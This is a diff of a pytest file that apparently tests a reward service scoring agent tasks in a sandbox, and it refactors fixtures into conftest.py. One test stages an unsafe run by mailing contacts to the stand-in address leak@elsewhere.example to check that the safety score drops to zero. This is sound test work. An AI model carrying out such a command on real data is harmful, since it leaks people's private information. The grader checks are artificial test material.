@@ -1,83 +1,24 @@
 """ScoreTask on the built-in Claw suite through the REAL reward gRPC server and a real
-orchard-env (etcd + the local runtime; root): no configuration names the task, the service
-regenerates its checks from the id and runs them in the sandbox."""
+orchard-env (etcd + the local runtime; root; ``conftest.py``): no configuration names the task,
+the service regenerates its checks from the id and runs them in the sandbox."""
 
 from __future__ import annotations
 
-import os
-import secrets
-import shutil
-import socket
-import tempfile
-import uuid
-from collections.abc import AsyncIterator, Iterator
-from pathlib import Path
+from collections.abc import AsyncIterator
 
 import grpc
 import pytest
 import pytest_asyncio
 
-from orchard.core.config import ServerConfig
-from orchard.reward.config import EnvServiceConfig, RewardConfig
-from orchard.reward.main import RewardApplication
 from orchard.reward.v1 import reward_service_pb2 as api
 from orchard.reward.v1 import reward_service_pb2_grpc
 from orchard.sdk import AsyncSandbox, AsyncSandboxClient
-from orchard.sdk.cli.host_probe import remove_cgroup_parent
-from orchard.sdk.cli.stack import LocalStack, StackError
+from orchard.sdk.cli.stack import LocalStack
 from orchard.tasks.claw.bundle import TOOLS_DIR, link_command, seed_command, tools_archive
 from orchard.tasks.claw.suite import make_task
 from orchard.types.v1 import reward_pb2
 
 pytestmark = [pytest.mark.root, pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]
-TOKEN_ENV = "CLAW_SCORE_TEST_ENV_TOKEN"
-
-
-def _free_port() -> int:
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        return int(sock.getsockname()[1])
-
-
-@pytest.fixture(scope="module")
-def env_stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
-    if os.geteuid() != 0:
-        pytest.fail("the local runtime needs root: run the tests as root")
-    run_dir = Path(tempfile.mkdtemp(prefix="oc-"))  # sandbox socket paths must stay short
-    cgroup_parent = f"orchard-claw-{uuid.uuid4().hex[:8]}"
-    stack = LocalStack(
-        tmp_path_factory.mktemp("claw-stack"),
-        listen=f"127.0.0.1:{_free_port()}",
-        token=secrets.token_urlsafe(16),
-        runtime={"cgroup_parent": cgroup_parent, "run_dir": str(run_dir)},
-    )
-    try:
-        stack.start()
-        yield stack
-    except StackError as exc:
-        pytest.fail(str(exc))
-    finally:
-        stack.stop()
-        remove_cgroup_parent(cgroup_parent)
-        shutil.rmtree(run_dir, ignore_errors=True)
-
-
-@pytest_asyncio.fixture(scope="module", loop_scope="module")
-async def reward(
-    env_stack: LocalStack,
-) -> AsyncIterator[reward_service_pb2_grpc.RewardServiceStub]:
-    os.environ[TOKEN_ENV] = env_stack.token
-    config = RewardConfig(
-        server=ServerConfig(listen=["127.0.0.1:0"]),
-        env=EnvServiceConfig(endpoint=env_stack.endpoint, token_env=TOKEN_ENV),
-    )
-    try:
-        async with RewardApplication(config).server() as server:
-            await server.set_serving()
-            async with grpc.aio.insecure_channel(server.addresses[0]) as channel:
-                yield reward_service_pb2_grpc.RewardServiceStub(channel)
-    finally:
-        os.environ.pop(TOKEN_ENV, None)
 
 
 @pytest_asyncio.fixture(loop_scope="module")
@@ -104,16 +45,16 @@ async def _score(
 
 
 async def test_score_task_scores_a_solved_claw_task_and_an_unsolved_one(
-    reward: reward_service_pb2_grpc.RewardServiceStub, sandbox: AsyncSandbox
+    env_reward: reward_service_pb2_grpc.RewardServiceStub, sandbox: AsyncSandbox
 ) -> None:
     task = make_task(2, "meeting_from_mail", 1)
     await sandbox.exec(seed_command(task.world.archive()), check=True)
-    unsolved = await _score(reward, task.id, sandbox)
+    unsolved = await _score(env_reward, task.id, sandbox)
     assert unsolved.value < 0.75 and unsolved.components["passed"] == 0.0
     assert unsolved.components["safety"] == 1.0
     for command in task.solution:
         await sandbox.exec(command, check=True, timeout=60)
-    solved = await _score(reward, task.id, sandbox)
+    solved = await _score(env_reward, task.id, sandbox)
     assert solved.value >= 0.75 and solved.components["passed"] == 1.0
     assert dict(solved.components) == {
         "safety": 1.0,
@@ -126,7 +67,7 @@ async def test_score_task_scores_a_solved_claw_task_and_an_unsolved_one(
 
 
 async def test_an_unsafe_run_scores_zero_through_the_service(
-    reward: reward_service_pb2_grpc.RewardServiceStub, sandbox: AsyncSandbox
+    env_reward: reward_service_pb2_grpc.RewardServiceStub, sandbox: AsyncSandbox
 ) -> None:
     task = make_task(2, "contact_lookup_send", 0)
     await sandbox.exec(seed_command(task.world.archive()), check=True)
@@ -135,19 +76,19 @@ async def test_an_unsafe_run_scores_zero_through_the_service(
     await sandbox.exec(
         "mail send --to leak@elsewhere.example --subject contacts --body everyone", check=True
     )
-    result = await _score(reward, task.id, sandbox)
+    result = await _score(env_reward, task.id, sandbox)
     assert result.value == 0.0 and result.components["safety"] == 0.0
     assert result.components["completion"] == 1.0
 
 
 async def test_bad_claw_ids_are_invalid_argument(
-    reward: reward_service_pb2_grpc.RewardServiceStub,
+    env_reward: reward_service_pb2_grpc.RewardServiceStub,
 ) -> None:
     for task_id, message in [
         ("claw/1/juggling/0", "unknown claw family"),
         ("claw/one/reply_mail/0", "whole numbers"),
     ]:
         with pytest.raises(grpc.aio.AioRpcError) as caught:
-            await reward.ScoreTask(api.ScoreTaskRequest(task_id=task_id, sandbox_id="sbx-x"))
+            await env_reward.ScoreTask(api.ScoreTaskRequest(task_id=task_id, sandbox_id="sbx-x"))
         assert caught.value.code() == grpc.StatusCode.INVALID_ARGUMENT
         assert message in (caught.value.details() or "")
